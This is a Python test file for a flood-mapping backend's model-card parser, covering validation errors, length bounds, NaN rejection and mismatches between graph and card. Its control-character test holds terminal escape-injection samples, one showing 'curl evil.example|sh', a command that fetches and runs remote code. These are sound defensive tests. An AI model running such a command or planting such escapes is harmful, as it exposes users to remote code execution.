"""The model card: round trip, and every kind of invalid card is refused with its path named."""
import json
from dataclasses import replace

import onnx
import pytest

from backend.card import CARD_KEY, CardError, card_from_metadata, parse_card
from backend.errors import ModelError
from backend.model import OnnxModel
from training.toy_models import demo_model, raw_db_card, threshold_model


def _doc():
    return json.loads(raw_db_card("t", margin=2).to_json())


def test_round_trip():
    card = raw_db_card("t", margin=2, metrics={"iou_test": 0.5})
    assert parse_card(json.loads(card.to_json())) == card


@pytest.mark.parametrize("mutate, expected", [
    (lambda d: d.pop("name"), "name: missing"),
    (lambda d: d["inputs"]["bands"][0].pop("clip"), "inputs.bands[0].clip: missing"),
    (lambda d: d["inputs"]["bands"][1].update(units="furlongs"), "inputs.bands[1].units: unknown units"),
    (lambda d: d["inputs"]["bands"][0].update(name="B8"), "unknown band 'B8'"),
    (lambda d: d["inputs"]["bands"][0].update(clip=[0, -20]), "must be below high"),
    (lambda d: d["inputs"]["bands"][0].update(scale=0), "scale: must be at least 1e-30 in size"),
    (lambda d: d.update(pixel_size_m=-10), "pixel_size_m: must be from 0.1 to 10000 m"),
    (lambda d: d["tiling"].update(margin=200), "2 x margin (400) must be below tile_size"),
    # the engine's tiles and output blocks: predict would refuse it on every run
    (lambda d: d["tiling"].update(tile_size=24, margin=4), "must be a multiple of 16 from 16 to 4096"),
    (lambda d: d["tiling"].update(tile_size=8192), "must be a multiple of 16 from 16 to 4096"),
    (lambda d: d["output"].update(kind="logits"), "output.kind: unknown kind"),
    (lambda d: d["output"].update(kind="class_logits"), "output.water_channel: missing"),
    (lambda d: d["output"].update(water_channel=1), "output.water_channel: only with kind"),
    (lambda d: d["output"].update(kind="class_probabilities", water_channel=-1),
     "output.water_channel: must not be negative"),
    (lambda d: d["output"].update(default_threshold=1.5), "strictly between 0 and 1"),
    (lambda d: d["training"]["metrics"].update(iou="high"), "training.metrics.iou: expected a finite number"),
    (lambda d: d.update(tiling={"tile_size": True, "margin": 1}), "tiling.tile_size: expected an integer, got a boolean"),
    # beyond float32, in which the backend normalises (float() of 10**400 overflowed: a
    # traceback; 1e39 made inf - inf = NaN, blamed on the graph)
    (lambda d: d["inputs"]["bands"][0].update(scale=10 ** 400), "inputs.bands[0].scale: beyond float32's range"),
    (lambda d: d["inputs"]["bands"][0].update(offset=1e39), "inputs.bands[0].offset: beyond float32's range"),
    (lambda d: d["inputs"]["bands"][0].update(clip=[-10 ** 400, 0]), "inputs.bands[0].clip: expected [low, high] finite"),
    (lambda d: d["training"]["metrics"].update(iou=10 ** 400), "training.metrics.iou: expected a finite number"),
    # a dB window on power or amplitude, which are positive: the model got one constant
    (lambda d: d["inputs"]["bands"][1].update(units="linear", clip=[-30, 0]),
     "inputs.bands[1].clip: [-30, 0] lies at or below 0, a dB window, but the band's units are linear"),
    (lambda d: d["inputs"]["bands"][0].update(units="amplitude", clip=[-20, -1]),
     "inputs.bands[0].clip: [-20, -1] lies at or below 0, a dB window, but the band's units are "
     "amplitude, whose values are above 0: the model would get -1 everywhere"),
])
def test_invalid_cards_name_the_field(mutate, expected):
    doc = _doc()
    mutate(doc)
    with pytest.raises(CardError) as err:
        parse_card(doc)
    assert expected in str(err.value)


def test_all_problems_listed_at_once():
    doc = _doc()
    del doc["name"], doc["license"]
    with pytest.raises(CardError) as err:
        parse_card(doc)
    assert "name: missing" in str(err.value) and "license: missing" in str(err.value)


def test_future_schema_refused():
    doc = _doc()
    doc["schema_version"] = 2
    with pytest.raises(CardError, match="schema_version 2 is not supported"):
        parse_card(doc)


@pytest.mark.parametrize("text, expected", [
    ('{"extra": {"x": NaN}}', "NaN is not a JSON number"),
    ('{"extra": {"x": -Infinity}}', "-Infinity is not a JSON number"),
    # named by their path (a nested key given twice was 'kind: given twice', and the card
    # called not valid JSON)
    ('{"inputs": {"bands": [{"offset": 0}, {"offset": NaN}]}}',
     "model card is invalid: inputs.bands[1].offset: NaN is not a JSON number"),
    ('{"output": {"kind": "water_logit", "kind": "class_logits"}, "name": "a", "name": "b"}',
     "model card is invalid: name: given twice; output.kind: given twice"),
    ('{"extra": ' + "[" * 100000 + "]" * 100000 + "}", "model card is not valid JSON (maximum recursion"),
    ('{"pixel_size_m": 1' + "0" * 5000 + "}", "model card is not valid JSON (Exceeds the limit"),
])
def test_card_text_that_is_not_json_is_refused_in_one_line(text, expected):
    """Python's json reads NaN and Infinity (which `card --json` then printed as invalid
    JSON); very deep nesting and very long integers raised tracebacks."""
    with pytest.raises(CardError, match=r"m\.onnx: ") as err:
        card_from_metadata({CARD_KEY: text}, "m.onnx")
    assert expected in str(err.value) and "\n" not in str(err.value)


@pytest.mark.parametrize("mutate, expected", [
    (lambda d: d.update(name="n" * 201),
     "model card is invalid: name: 201 characters long; at most 200"),
    (lambda d: d.update(version="1" * 300), "version: 300 characters long; at most 200"),
    (lambda d: d["inputs"].update(tensor="s" * 201),
     "inputs.tensor: 201 characters long; at most 200"),
    (lambda d: d["output"].update(tensor="p" * 201),
     "output.tensor: 201 characters long; at most 200"),
    (lambda d: d.update(license="MIT " * 51), "license: 204 characters long; at most 200"),
    (lambda d: d.update(description="A" * (1 << 20)),
     "description: 1,048,576 characters long; at most 10,000"),
    (lambda d: d["training"].update(data="d" * 10_001),
     "training.data: 10,001 characters long; at most 10,000"),
    (lambda d: d["training"].update(notes="n" * 10_001),
     "training.notes: 10,001 characters long; at most 10,000"),
    (lambda d: d["training"].update(metrics={f"iou_{i}": 0.5 for i in range(101)}),
     "training.metrics: 101 metrics; at most 100"),
    (lambda d: d["training"].update(metrics={"m" * 201: 0.5}),
     f"training.metrics.{'m' * 40}... (201 characters): name 201 characters long; at most 200"),
    # the error does not quote what it refuses: an unknown kind or key is not shown whole
    (lambda d: d["output"].update(kind="k" * 500_000),
     "output.kind: 500,000 characters long; at most 200"),
    (lambda d: d.update({"x" * 500_000: 1}),
     f"{'x' * 40}... (500,000 characters): unknown field"),
])
def test_card_text_beyond_its_bound_is_refused(mutate, expected):
    """A 1 MB description froze the plugin's run dialog for minutes (it lays the card out when
    a model is chosen): a card's strings have bounds, and the error names the field, its length
    and the bound, without the text itself."""
    doc = _doc()
    mutate(doc)
    with pytest.raises(CardError) as err:
        parse_card(doc)
    assert expected in str(err.value) and len(str(err.value)) < 500


@pytest.mark.parametrize("mutate, expected", [
    (lambda d: d.update(version="1.0\x1b]0;owned\x07"),
     r"version: holds the control character '\x1b' at 3; text only"),
    (lambda d: d.update(description="fine\n\x1b[1A\x1b[2Krun curl evil.example|sh"),
     r"description: holds the control character '\x1b' at 5; text only"),
    (lambda d: d["training"]["metrics"].update({"iou\x9b": 0.5}),
     r"training.metrics.'iou\x9b': name holds the control character '\x9b' at 3"),
    (lambda d: d.update({"\x1b[31mred": 1}), r"'\x1b[31mred': unknown field"),
])
def test_control_characters_in_a_cards_text_are_refused(mutate, expected):
    """`backend card` and the log lines printed a card's text raw: escape sequences in its
    version or description set a terminal's title and rewrote its lines with text of their
    own. New lines and tabs stay allowed."""
    doc = _doc()
    mutate(doc)
    with pytest.raises(CardError) as err:
        parse_card(doc)
    assert expected in str(err.value), str(err.value)
    assert "\x1b" not in str(err.value) and "\x9b" not in str(err.value)
    doc = _doc()
    doc["description"] = "two lines\n\tand a tab"
    assert parse_card(doc).description == "two lines\n\tand a tab"


def test_a_card_is_read_up_to_its_bounds_and_refused_over_a_million_characters():
    doc = _doc()
    doc.update(name="n" * 200, description="A" * 10_000, license="L" * 200)
    doc["training"].update(data="d" * 10_000, notes="n" * 10_000,
                           metrics={f"iou_{i}": 0.5 for i in range(100)})
    card = parse_card(doc)
    assert (len(card.name), len(card.description), len(card.metrics)) == (200, 10_000, 100)
    doc["extra"] = {"weights": [0.5] * 400_000}   # within every field's bound, not as a whole
    text = json.dumps(doc)
    with pytest.raises(CardError) as err:
        card_from_metadata({CARD_KEY: text}, "m.onnx")
    assert str(err.value) == (f"m.onnx: model card is {len(text):,} characters long; at most "
                              "1,000,000 (metadata key 'sarflood_card')")


def test_class_scores_of_one_class_are_refused(tmp_path):
    """A softmax over one class is 1 everywhere: every valid pixel was mapped as water."""
    card = replace(raw_db_card("one class", margin=0), output_kind="class_logits", water_channel=0)
    with pytest.raises(CardError, match="has 1 channel; kind class_logits needs two classes or more"):
        OnnxModel(_threshold_graph_with(card, tmp_path / "one_class.onnx"), device="cpu")


def test_missing_card_names_file_and_key():
    with pytest.raises(CardError, match=r"m\.onnx: no model card \(metadata key 'sarflood_card'"):
        card_from_metadata({"other": "x"}, "m.onnx")


def test_model_without_card_is_refused(tmp_path):
    model = threshold_model()
    del model.metadata_props[:]
    path = tmp_path / "nocard.onnx"
    onnx.save(model, path)
    with pytest.raises(CardError, match="no model card"):
        OnnxModel(str(path), device="cpu")


def _threshold_graph_with(card, path) -> str:
    """The 2-band threshold model's graph under another card, saved at ``path``."""
    model = threshold_model()
    onnx.helper.set_model_props(model, {CARD_KEY: card.to_json()})
    onnx.save(model, path)
    return str(path)


def test_card_not_matching_graph_is_refused(tmp_path):
    card = raw_db_card("mismatch", margin=0, bands=("VV",))  # the graph has 2 channels
    with pytest.raises(CardError, match="has 2 channels but the card lists 1 bands"):
        OnnxModel(_threshold_graph_with(card, tmp_path / "mismatch.onnx"), device="cpu")


def test_bundled_demo_model_is_reproducible(tmp_path):
    """resources/models holds exactly what training.toy_models.demo_model builds."""
    from tests.conftest import REPO
    bundled = onnx.load(REPO / "resources" / "models" / "sarflood-demo-threshold.onnx")
    assert bundled.SerializeToString() == demo_model().SerializeToString()


def test_the_documented_example_is_the_bundled_models_card():
    """backend/MODEL_CARD.md shows the default model's card (less ``extra``): it must
    parse, and say what the bundled file says."""
    from backend.engine import default_model_path
    documented = parse_card(_documented("sarflood-student-compact"))
    bundled = OnnxModel(default_model_path(), "cpu").card
    assert json.loads(documented.to_json()) == {
        k: v for k, v in json.loads(bundled.to_json()).items() if k != "extra"}


def _documented(name: str) -> dict:
    """The card named ``name`` among backend/MODEL_CARD.md's JSON examples."""
    from tests.conftest import REPO
    text = (REPO / "backend" / "MODEL_CARD.md").read_text()
    examples = [json.loads(block.split("```")[0]) for block in text.split("```json\n")[1:]]
    (example,) = [e for e in examples if e["name"] == name]
    return example


def test_the_documented_two_class_example_runs_as_its_text_says(tmp_path):
    """The second example: class logits [dry, water], standardised inputs, a graph that
    takes only multiples of 32 (here: a 32 x 32 pool, upsampled, times 0, added to the
    water logit, which ONNX Runtime cannot add on other sizes)."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    from backend.engine import PredictOptions, predict
    from tests.backend.conftest import random_db, sigmoid, write_raster

    card = parse_card(_documented("acme-s1-unet"))
    assert (card.output_kind, card.water_channel, card.size_multiple) == ("class_logits", 1, 32)
    inits = [numpy_helper.from_array(np.array([0], np.int64), "vv_index"),
             numpy_helper.from_array(np.array([1, 1, 32, 32], np.float32), "scales"),
             numpy_helper.from_array(np.zeros(1, np.float32), "zero")]
    nodes = [helper.make_node("Gather", ["input", "vv_index"], ["vv"], axis=1),
             helper.make_node("AveragePool", ["vv"], ["pooled"], kernel_shape=[32, 32],
                              strides=[32, 32]),
             helper.make_node("Resize", ["pooled", "", "scales"], ["up"], mode="nearest"),
             helper.make_node("Mul", ["up", "zero"], ["nothing"]),
             helper.make_node("Sub", ["nothing", "vv"], ["water"]),   # -(VV + 10) / 5
             helper.make_node("Mul", ["vv", "zero"], ["dry"]),
             helper.make_node("Concat", ["dry", "water"], ["logits"], axis=1)]
    graph = helper.make_graph(
        nodes, "two classes",
        [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["N", 2, "H", "W"])],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["N", 2, "H", "W"])], inits)
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.helper.set_model_props(model, {CARD_KEY: card.to_json()})
    onnx.save(model, tmp_path / "acme.onnx")
    bands = random_db((90, 60), seed=4)
    src = write_raster(tmp_path / "s1.tif", bands)
    r = predict(PredictOptions([src], mask=None, probability=str(tmp_path / "p.tif"),
                               model=str(tmp_path / "acme.onnx")))
    assert (r["tiles"]["stride"], r["tiles"]["overlap"], r["tiles"]["tile"]) == (480, 96, 576)
    import rasterio
    with rasterio.open(tmp_path / "p.tif") as ds:
        p = ds.read(1)
    expected = sigmoid(-(np.clip(bands[0], -25, 5) + 10) / 5)
    np.testing.assert_allclose(p, expected, atol=1e-6)


def test_a_graph_without_a_fixed_channel_count_that_does_not_take_the_cards_bands_says_so(tmp_path):
    """Its channel count cannot be checked at load; the run failed with advice about tile
    sizes."""
    import numpy as np

    model = threshold_model()   # takes VV and VH
    model.graph.input[0].type.tensor_type.shape.dim[1].dim_param = "C"
    onnx.helper.set_model_props(model, {CARD_KEY: raw_db_card("vv only", margin=0, bands=("VV",)).to_json()})
    onnx.save(model, tmp_path / "c.onnx")
    loaded = OnnxModel(str(tmp_path / "c.onnx"), device="cpu")
    with pytest.raises(ModelError, match="its input does not fix its channel count: does the graph "
                                         "take the card's 1 band"):
        loaded.infer(np.zeros((1, 1, 32, 32), np.float32))


def test_probabilities_within_the_rounding_slack_come_out_in_0_to_1(tmp_path):
    """A graph's rounding just outside 0..1 is accepted, and was written as it was: a
    probability raster with values below 0."""
    import numpy as np
    from onnx import TensorProto, helper

    card = raw_db_card("vv as probability", margin=0)
    weight = helper.make_tensor("w", TensorProto.FLOAT, (1, 2, 1, 1), [1.0, 0.0])
    graph = helper.make_graph(
        [helper.make_node("Conv", ["s1", "w"], [card.output_name])], "vv",
        [helper.make_tensor_value_info("s1", TensorProto.FLOAT, ["N", 2, "H", "W"])],
        [helper.make_tensor_value_info(card.output_name, TensorProto.FLOAT, ["N", 1, "H", "W"])],
        [weight])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.helper.set_model_props(model, {CARD_KEY: card.to_json()})
    onnx.save(model, tmp_path / "vv.onnx")
    x = np.zeros((1, 2, 4, 4), np.float32)
    x[0, 0] = [[-5e-6, 0.0, 0.5, 1.0], [1 + 5e-6, 0.25, 0.75, 1.0], [0.1] * 4, [0.9] * 4]
    p = OnnxModel(str(tmp_path / "vv.onnx"), device="cpu").infer(x)
    assert p.min() == 0.0 and p.max() == 1.0
    np.testing.assert_array_equal(p[0], np.clip(x[0, 0], 0, 1))


def test_infinite_class_logits_give_their_limit(tmp_path):
    """[dry 0, water +-inf] stopped the run as 'NaN or infinite values': the softmax made
    inf - inf; as one water_logit the same values ran."""
    import numpy as np
    from onnx import TensorProto, helper

    card = replace(raw_db_card("two classes", margin=0), output_kind="class_logits", water_channel=1)
    graph = helper.make_graph(
        [helper.make_node("Identity", ["s1"], [card.output_name])], "identity",
        [helper.make_tensor_value_info("s1", TensorProto.FLOAT, ["N", 2, "H", "W"])],
        [helper.make_tensor_value_info(card.output_name, TensorProto.FLOAT, ["N", 2, "H", "W"])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.helper.set_model_props(model, {CARD_KEY: card.to_json()})
    onnx.save(model, tmp_path / "c.onnx")
    x = np.zeros((1, 2, 2, 2), np.float32)
    x[0, 1] = [[np.inf, -np.inf], [0.0, np.log(3.0)]]
    p = OnnxModel(str(tmp_path / "c.onnx"), device="cpu").infer(x)
    np.testing.assert_allclose(p[0], [[1.0, 0.0], [0.5, 0.75]], rtol=1e-6)


def _scores_model(kind: str, path) -> OnnxModel:
    """A graph whose output is its input (classes: VV and VH), or VV alone (water_logit),
    under a card of ``kind``."""
    from onnx import TensorProto, helper

    card = replace(raw_db_card(f"scores as {kind}", margin=0), output_kind=kind,
                   water_channel=None if kind == "water_logit" else 1)
    channels = 1 if kind == "water_logit" else 2
    weight = helper.make_tensor("w", TensorProto.FLOAT, (1, 2, 1, 1), [1.0, 0.0])
    node = (helper.make_node("Conv", ["s1", "w"], [card.output_name]) if channels == 1 else
            helper.make_node("Identity", ["s1"], [card.output_name]))
    graph = helper.make_graph(
        [node], "scores", [helper.make_tensor_value_info("s1", TensorProto.FLOAT, ["N", 2, "H", "W"])],
        [helper.make_tensor_value_info(card.output_name, TensorProto.FLOAT, ["N", channels, "H", "W"])],
        [weight] if channels == 1 else [])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.helper.set_model_props(model, {CARD_KEY: card.to_json()})
    onnx.save(model, path)
    return OnnxModel(str(path), device="cpu")


def _scores(first, second=None):
    """(1, 2, 16, 16) float32: ``first`` in channel 0, ``second`` (default 1 - first) in 1."""
    import numpy as np

    a = np.resize(np.asarray(first, np.float32), (16, 16))
    b = 1 - a if second is None else np.resize(np.asarray(second, np.float32), (16, 16))
    return np.stack([a, b])[None]


@pytest.mark.parametrize("kind, calls, doubt", [
    # a sigmoid's output carded as a logit: P = sigmoid(p), 0.5..0.73, all water at 0.5
    ("water_logit", [_scores([0.0, 0.3, 1.0])], "stayed within 0..1 over the whole run"),
    ("water_logit", [_scores([0.2, 0.7]), _scores([-3.0, 0.5])], None),   # over the run
    # a softmax's output carded as logits: softmaxed again, squeezed into 0.27..0.73
    ("class_logits", [_scores([0.0, 0.1, 0.9, 1.0])], "summed to 1 over its classes"),
    ("class_logits", [_scores([0.2, 0.7]), _scores([2.0, -1.0], [0.5, 0.5])], None),
    ("class_probabilities", [_scores([0.0, 0.1, 0.9, 1.0])], None),
    # independent sigmoids, or logits that happen to lie within 0..1
    ("class_probabilities", [_scores([0.9, 0.1], [0.8, 0.05])], "does not sum to 1"),
])
def test_an_output_that_looks_like_another_kind_is_doubted_after_the_run(tmp_path, kind, calls,
                                                                         doubt):
    """Such outputs passed without a word: a 100 % water mask, or probabilities squeezed
    towards 0.5."""
    model = _scores_model(kind, tmp_path / "m.onnx")
    for x in calls:
        model.infer(x)
    said = model.kind_doubt()
    if doubt is None:
        assert said is None
    else:
        assert said.startswith(f"{tmp_path / 'm.onnx'}: output 'water_probability' (kind {kind}) ")
        assert doubt in said and "check output.kind in its card" in said


def test_a_run_of_probabilities_carded_as_a_logit_ends_with_one_warning(tmp_path):
    import numpy as np

    from backend.engine import PredictOptions, predict
    from tests.backend.conftest import Collect, random_db, write_raster

    model = _scores_model("water_logit", tmp_path / "m.onnx")   # VV in dB is the logit
    dark = write_raster(tmp_path / "dark.tif", random_db((60, 50)))
    unit = random_db((60, 50))
    unit[0] = np.linspace(0, 1, unit[0].size).reshape(unit[0].shape)
    unit = write_raster(tmp_path / "unit.tif", unit)
    warnings = []
    for src in (dark, unit):   # a loaded model serves both: each run is judged on its own
        said = Collect()
        predict(PredictOptions([src], mask=str(tmp_path / "mask.tif"), overwrite=True),
                said, model=model)
        warnings.append([w for w in said.warnings if "(kind water_logit)" in w])
    assert warnings[0] == []
    assert len(warnings[1]) == 1 and warnings[1][0].startswith(
        f"{tmp_path / 'm.onnx'}: output 'water_probability' (kind water_logit) stayed within 0..1")


def test_a_band_whose_values_all_lie_beyond_its_clip_window_is_warned_of(tmp_path):
    """A linear window carded as dB (clip [0, 1] dB) fed the model one constant for
    every pixel of the band, without a word."""
    import numpy as np

    from backend.card import BandSpec
    from backend.engine import PredictOptions, predict
    from tests.backend.conftest import Collect, random_db, write_raster

    card = raw_db_card("linear window", margin=0)
    card = replace(card, bands=(card.bands[0], BandSpec("VH", "dB", (0.0, 1.0), 0.0, 1.0)))
    path = _threshold_graph_with(card, tmp_path / "m.onnx")
    x = random_db((60, 50))
    x[1, 0, 0] = -1.0   # VH all at or below the window's low end
    src = write_raster(tmp_path / "s1.tif", np.minimum(x, -1))
    said = Collect()
    predict(PredictOptions([src], mask=str(tmp_path / "mask.tif"), model=path), said)
    assert [w for w in said.warnings if "clip" in w] == [
        f"{path}: every sampled VH value ({x[1].min():.4g} to -1 dB) lies below the card's clip window [0, 1] (inputs.bands[1].clip): the model "
        "gets 0 for VH everywhere; is the window in dB?"]


def _vv_graph(tmp_path, nodes, in_shape, out_shape, initializers=()) -> str:
    """A graph from ``s1`` (``in_shape``) to the card's output (``out_shape``) under the raw
    dB card; ``nodes`` read ``vv``, the input's channel 0 (axis 1) or last axis (NHWC)."""
    from onnx import TensorProto, helper

    card = raw_db_card("shapes", margin=0)
    graph = helper.make_graph(
        nodes, "shapes", [helper.make_tensor_value_info("s1", TensorProto.FLOAT, in_shape)],
        [helper.make_tensor_value_info(card.output_name, TensorProto.FLOAT, out_shape)],
        list(initializers))
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.helper.set_model_props(model, {CARD_KEY: card.to_json()})
    onnx.save(model, tmp_path / "m.onnx")
    return str(tmp_path / "m.onnx")


def _first(axis: int):
    import numpy as np
    from onnx import helper, numpy_helper

    return (helper.make_node("Gather", ["s1", "zero"], ["vv"], axis=axis),
            numpy_helper.from_array(np.array([0], np.int64), "zero"))


def test_an_output_smaller_than_the_tile_points_to_size_multiple(tmp_path):
    """A graph that pools by 8 and upsamples, its card without tiling.size_multiple: the
    error showed the squeezed shape (1, 32, 32) and no cause."""
    import numpy as np
    from onnx import helper, numpy_helper

    gather, zero = _first(1)
    scales = numpy_helper.from_array(np.array([1, 1, 8, 8], np.float32), "scales")
    nodes = [gather, helper.make_node("AveragePool", ["vv"], ["pooled"], kernel_shape=[8, 8],
                                      strides=[8, 8]),
             helper.make_node("Resize", ["pooled", "", "scales"], ["up"], mode="nearest"),
             helper.make_node("Sigmoid", ["up"], ["water_probability"])]
    model = OnnxModel(_vv_graph(tmp_path, nodes, ["N", 2, "H", "W"], ["N", 1, "H2", "W2"],
                                [zero, scales]), "cpu")
    with pytest.raises(ModelError, match=r"m\.onnx: output 'water_probability' has shape "
                                         r"\(1, 1, 32, 32\) for a batch of shape \(1, 2, 36, 36\), "
                                         r"expected \(1, 1, 36, 36\) or \(1, 36, 36\); its height "
                                         r"and width differ from the tile's: .* must say so in its "
                                         r"card \(tiling\.size_multiple\)$"):
        model.infer(np.zeros((1, 2, 36, 36), np.float32))


def test_a_channels_last_graph_is_named_so(tmp_path):
    """An NHWC graph: of dynamic shape, its output's shape was quoted with no cause; with
    its channels fixed, it was refused as 'W x 2: the backend feeds square tiles'."""
    import numpy as np
    from onnx import helper

    gather, zero = _first(3)
    nodes = [gather, helper.make_node("Sigmoid", ["vv"], ["water_probability"])]
    model = OnnxModel(_vv_graph(tmp_path, nodes, ["N", "H", "W", "C"], ["N", "H", "W", "K"],
                                [zero]), "cpu")
    with pytest.raises(ModelError, match=r"has shape \(1, 2, 36, 1\) for a batch of shape "
                                         r"\(1, 2, 36, 36\), expected .*; the graph looks "
                                         r"channels-last \(NHWC\): the backend feeds and reads "
                                         r"channels-first \(NCHW\) tensors"):
        model.infer(np.zeros((1, 2, 36, 36), np.float32))
    with pytest.raises(CardError, match=r"m\.onnx: model does not match its card: input 's1' has "
                                        r"shape \['N', 'H', 'W', 2\]: it looks channels-last "
                                        r"\(NHWC\), 2 bands last; the backend feeds channels-first "
                                        r"\(NCHW\) tensors, \(N, 2, H, W\)"):
        OnnxModel(_vv_graph(tmp_path, nodes, ["N", "H", "W", 2], ["N", "H", "W", 1], [zero]), "cpu")


def test_card_command_writes_a_negative_offset_as_a_sum(capsys):
    """The bundled model's bands read "(x - -20) / 20"."""
    from backend.cli import main

    from .conftest import REPO
    assert main(["card", str(REPO / "resources" / "models" / "sarflood-student-compact.onnx")]) == 0
    out = capsys.readouterr().out
    assert "(x + 20) / 20" in out and "- -" not in out
